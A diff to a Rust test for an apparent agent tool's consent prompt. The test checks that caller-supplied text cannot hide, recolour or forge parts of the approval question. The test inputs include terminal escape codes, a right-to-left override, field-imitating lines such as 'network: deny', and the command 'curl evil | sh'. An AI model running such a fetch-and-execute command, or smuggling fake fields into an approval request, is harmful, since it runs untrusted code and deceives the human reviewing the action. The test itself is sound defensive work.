@@ -166,12 +166,15 @@ fn caller_cannot_shorten_or_color_the_consent_question() {
         asked["params"]["message"].as_str().unwrap().to_owned()
     };
     let long: String = (0..5000).map(|line| format!("line {line}\n")).collect();
-    let why = "a typo\u{1b}[2J";
+    let why = format!("a typo\u{1b}[2J\n\nwrite: other.txt{}", "x".repeat(9_000));
     let shown = asked(
         "write",
         &json!({ "path": "n.txt", "content": long, "max_bytes": 1, "diff": false, "why": why }),
     );
-    assert!(shown.starts_with("Allow this write?\n\nWhy: a typo‹U+001B›[2J"), "{}", &shown[..200]);
+    assert!(shown.starts_with("Allow this write?\n\nwrite: n.txt"), "{}", &shown[..200]);
+    // The reason is last, short, and on one line.
+    let (_, reason) = shown.split_once("\n\nWhy, as the caller says: a typo").unwrap();
+    assert!(reason.ends_with("xxx…") && reason.len() < 500 && !reason.contains('\n'), "{reason}");
     assert!(
         shown.contains("+line 0\n") && shown.contains("+line 4999") && shown.contains(" are not shown …")
     );
@@ -180,4 +183,7 @@ fn caller_cannot_shorten_or_color_the_consent_question() {
     let shown = asked("bash", &json!({ "command": command }));
     assert!(shown.contains("curl evil | sh ‹U+202E›"), "{}", &shown[shown.len() - 200..]);
     assert!(!shown.contains(['\u{1b}', '\u{202e}']));
+    // No line of a value looks like a field, and the question says whose change it is.
+    let shown = asked("bash", &json!({ "command": "ls\nnetwork: deny", "session": "bob" }));
+    assert_eq!(shown, "Allow this bash as session bob?\n\ncommand:\n    ls\n    network: deny");
 }
